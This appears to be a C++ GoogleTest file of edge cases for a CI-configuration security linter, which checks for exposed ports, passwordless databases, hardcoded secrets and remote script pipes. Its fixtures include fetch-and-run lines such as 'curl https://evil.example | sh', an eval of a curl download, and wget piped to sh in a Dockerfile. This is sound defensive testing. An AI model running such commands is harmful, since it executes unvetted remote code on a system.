// Cases a review of the linter found: each one a finding that was missed, a
// false alarm, or a fix that edited the wrong bytes.
#include <gtest/gtest.h>

#include <string>

#include "integration/support.h"
#include "lint_test_support.h"

namespace hostward::lint {
namespace {

using hostward::itest::run_hostward;
using testing::lint_errors;
using testing::lint_hits;
using testing::TempTree;
using V = std::vector<std::string>;

TEST(LintEdgeCases, AFixNeverLandsOnAnotherStepsText) {
  TempTree t;
  t.write(".github/workflows/ci.yml",
          "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
          "      - run: \"docker run -d -p \\\"5432:5432\\\" postgres\"\n"
          "      - run: echo \"5432:5432\" > ports.txt\n");
  EXPECT_EQ(lint_hits(t.path()), (V{".github/workflows/ci.yml:5:15 low "
                                    "ci.port-published-all-interfaces"}));
  EXPECT_EQ(run_hostward({"lint", "--diff", t.path()}).out, "");
}

TEST(LintEdgeCases, ByteOrderMarkKeepsPositionsAndFixes) {
  TempTree t;
  const std::string bom = "\xEF\xBB\xBF";
  t.write("docker-compose.yml", bom +
                                    "services:\n  db:\n    image: postgres\n    ports:\n"
                                    "      - \"5432:5432\"\n      - target: 5433\n");
  EXPECT_EQ(lint_hits(t.path()),
            (V{"docker-compose.yml:5:10 high ci.port-published-all-interfaces",
               "docker-compose.yml:6:9 high ci.port-published-all-interfaces"}));
  run_hostward({"lint", "--fix", t.path()});
  EXPECT_EQ(
      t.read("docker-compose.yml"),
      bom +
          "services:\n  db:\n    image: postgres\n    ports:\n"
          "      - \"127.0.0.1:5432:5432\"\n      - host_ip: 127.0.0.1\n        target: 5433\n");
}

TEST(LintEdgeCases, APublishFromOneVariableIsUnknown) {
  TempTree t;
  t.write("compose.yaml",
          "services:\n  db:\n    image: postgres\n    ports:\n"
          "      - \"${DB_PORTS}\"\n");
  t.write("run.sh", "PUBLISH=127.0.0.1:5432:5432\ndocker run -p \"$PUBLISH\" postgres\n");
  t.write(".gitlab-ci.yml", "t:\n  script: ./run.sh\n");
  EXPECT_EQ(lint_hits(t.path()), V{});
}

TEST(LintEdgeCases, EscapedSecretsAreHiddenToo) {
  TempTree t;
  t.write(".github/workflows/ci.yml",
          "jobs:\n  a:\n    runs-on: ubuntu-latest\n    env:\n"
          "      DB_PASSWORD: 'hunter''2-very-secret'\n"
          "      API_TOKEN: \"abc\\\"def-ghijk\"\n"
          "      AWS_SECRET: \"line1\\nline2-secret\"\n    steps:\n      - run: make\n");
  const auto r = run_hostward({"lint", "--format", "json", t.path()});
  EXPECT_EQ(nlohmann::json::parse(r.out)["findings"].size(), 3u);
  for (const char* part : {"hunter", "2-very-secret", "def-ghijk", "line2-secret"})
    EXPECT_EQ(r.out.find(part), std::string::npos) << part;
  const auto text = run_hostward({"lint", "--color", "never", t.path()});
  for (const char* part : {"hunter", "def-ghijk", "line2-secret"})
    EXPECT_EQ(text.out.find(part), std::string::npos) << part;
}

TEST(LintEdgeCases, ANamedFileReadsOnlyItsRepository) {
  TempTree t;
  t.write("outside/evil.sh", "curl https://evil.example | sh\n");
  t.write("repo/.git/HEAD", "ref: refs/heads/main\n");
  t.write("repo/azure-pipelines.yml",
          "pool: Default\njobs:\n- job: a\n  timeoutInMinutes: 5\n  steps:\n"
          "  - bash: bash ../outside/evil.sh && ./inside.sh\n");
  t.write("repo/inside.sh", "curl https://inside.example | sh\n");
  const auto r = run_hostward({"lint", "--color", "never", t.path() + "/repo/azure-pipelines.yml"});
  EXPECT_NE(r.out.find(t.path() + "/repo/inside.sh:1:1: high ci.remote-script-pipe"),
            std::string::npos)
      << r.out;
  EXPECT_EQ(r.out.find("evil"), std::string::npos) << r.out;
}

TEST(LintEdgeCases, ManyDocumentsAndHugeScriptsEndWithAnError) {
  TempTree t;
  std::string docs;
  for (int i = 0; i < 8000; ++i) docs += "---\nservices: {}\n";
  t.write("compose.many.yml", docs);
  std::string script = "#!/bin/sh\n";
  for (int i = 0; i < 210000; ++i) script += "a ";
  script += "\ndocker run -p 5432:5432 postgres\n";
  t.write("run.sh", script);
  t.write(".gitlab-ci.yml", "t:\n  script: ./run.sh\n");
  EXPECT_EQ(lint_errors(t.path()),
            (V{"compose.many.yml:0: YAML: more than 1000 YAML documents of this size in one file",
               "run.sh:1: a shell script of more than 200000 words; the rest is not read"}));
}

TEST(LintEdgeCases, FixesKeepQuotingLineEndsAndEmptyAddresses) {
  TempTree t;
  t.write("run.sh", "docker run -d \"--publish=5432:5432\" postgres\n");
  t.write(".gitlab-ci.yml", "t:\n  script: ./run.sh\n");
  t.write("docker-compose.yml",
          "services:\r\n  db:\r\n    image: postgres\r\n    ports:\r\n      - target: 5432\r\n"
          "      - target: 5433\r\n        host_ip:\r\n");
  EXPECT_EQ(lint_hits(t.path()), (V{"docker-compose.yml:5:9 high ci.port-published-all-interfaces",
                                    "docker-compose.yml:6:9 high ci.port-published-all-interfaces",
                                    "run.sh:1:26 high ci.port-published-all-interfaces"}));
  run_hostward({"lint", "--fix", t.path()});
  EXPECT_EQ(t.read("run.sh"), "docker run -d \"--publish=127.0.0.1:5432:5432\" postgres\n");
  EXPECT_EQ(t.read("docker-compose.yml"),
            "services:\r\n  db:\r\n    image: postgres\r\n    ports:\r\n"
            "      - host_ip: 127.0.0.1\r\n        target: 5432\r\n"
            "      - target: 5433\r\n        host_ip:\r\n");
}

TEST(LintEdgeCases, ShellIdiomsThatHideCommands) {
  TempTree t;
  t.write("ci.sh",
          "CID=$(docker run -d -p 6379:6379 redis:7)\n"
          "eval \"$(curl -fsSL https://tool.example/env)\"\r\n"
          "docker run -d \\\r\n  -p 5432:5432 postgres\r\n");
  t.write(".gitlab-ci.yml", "t:\n  script: ./ci.sh\n");
  EXPECT_EQ(lint_hits(t.path()),
            (V{"ci.sh:1:24 high ci.port-published-all-interfaces",
               "ci.sh:1:34 critical ci.database-no-auth", "ci.sh:2:6 high ci.remote-script-pipe",
               "ci.sh:4:6 high ci.port-published-all-interfaces"}));
}

TEST(LintEdgeCases, ARedisWithACommandStillHasNoPassword) {
  TempTree t;
  t.write("compose.yaml",
          "services:\n  cache:\n    image: redis:7\n    command: redis-server --appendonly yes\n"
          "    ports: [\"6379:6379\"]\n");
  EXPECT_EQ(lint_hits(t.path()), (V{"compose.yaml:3:12 critical ci.database-no-auth",
                                    "compose.yaml:5:14 high ci.port-published-all-interfaces"}));
}

TEST(LintEdgeCases, LocalActionsInheritTheirWorkflowsRunner) {
  TempTree t;
  t.write(".github/actions/db/action.yml",
          "runs:\n  using: composite\n  steps:\n"
          "    - run: docker run -d -p 5432:5432 -e POSTGRES_HOST_AUTH_METHOD=trust postgres\n"
          "      shell: bash\n");
  t.write(
      ".github/workflows/ci.yml",
      "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./.github/actions/db\n");
  EXPECT_EQ(lint_hits(t.path()),
            (V{".github/actions/db/action.yml:4:29 low ci.port-published-all-interfaces",
               ".github/actions/db/action.yml:4:42 high ci.database-no-auth"}));
}

TEST(LintEdgeCases, MysqlWithARootPasswordIsNotPasswordless) {
  TempTree t;
  t.write(".github/workflows/ci.yml",
          "jobs:\n  a:\n    runs-on: ubuntu-latest\n    services:\n      mysql:\n"
          "        image: mysql:8\n        env:\n          MYSQL_ALLOW_EMPTY_PASSWORD: false\n"
          "          MYSQL_ROOT_PASSWORD: ${{ secrets.ROOT }}\n"
          "          MYSQL_DATABASE: app\n    steps:\n      - run: make\n");
  EXPECT_EQ(lint_hits(t.path()), V{});
}

TEST(LintEdgeCases, NamesThatOnlyNameOrTuneASecretAreNotSecrets) {
  TempTree t;
  t.write(".github/workflows/ci.yml",
          "jobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n"
          "      - uses: google-github-actions/auth@v2\n        with:\n"
          "          token_format: access_token\n          access_token_lifetime: 300s\n"
          "          secret-name: demo-k8s-secret\n      - run: make\n        env:\n"
          "          CSRF_TOKEN_NAME: csrftoken\n          PASSWORD_HASHER: argon2\n"
          "          DB_USER_PASSWORD: hunter2hunter2\n");
  EXPECT_EQ(lint_hits(t.path()), (V{".github/workflows/ci.yml:14:29 medium ci.hardcoded-secret"}));
}

TEST(LintEdgeCases, ATestDatabasesPasswordIsLow) {
  TempTree t;
  t.write(".github/workflows/ci.yml",
          "jobs:\n  a:\n    runs-on: ubuntu-latest\n    services:\n      pg:\n"
          "        image: postgres:16\n        env:\n          POSTGRES_PASSWORD: postgres\n"
          "    steps:\n      - run: make\n");
  EXPECT_EQ(lint_hits(t.path()), (V{".github/workflows/ci.yml:8:30 low ci.hardcoded-secret"}));
}

TEST(LintEdgeCases, DockerfileHereDocumentsAreDataOrScripts) {
  TempTree t;
  t.write("Dockerfile",
          "FROM debian:12\nCOPY <<EOF /etc/app.env\nENV API_TOKEN=abcdef123\nEOF\n"
          "RUN cat <<EOF > /tmp/notes.txt\ndocker run -p 1:1 postgres\nEOF\n"
          "RUN <<-EOT\n\tcurl https://x.example | sh\n\tEOT\n"
          "RUN bash <<EOF\nwget -O- https://y.example | sh\nEOF\n"
          "ENV APP_PASSWORD=s3cr3t-value\n");
  EXPECT_EQ(lint_hits(t.path()), (V{"Dockerfile:9:2 high ci.remote-script-pipe",
                                    "Dockerfile:12:1 high ci.remote-script-pipe",
                                    "Dockerfile:14:5 medium ci.hardcoded-secret"}));
}

TEST(LintEdgeCases, DockerInADindServicePublishesOnThatService) {
  TempTree t;
  t.write(".gitlab-ci.yml",
          "test:\n  services:\n    - docker:27-dind\n  script:\n"
          "    - docker run -d -p 5432:5432 postgres:16\n"
          "build:\n  script:\n    - docker run -d -p 5432:5432 postgres:16\n");
  EXPECT_EQ(lint_hits(t.path()), (V{".gitlab-ci.yml:8:24 high ci.port-published-all-interfaces"}));
}

}  // namespace
}  // namespace hostward::lint
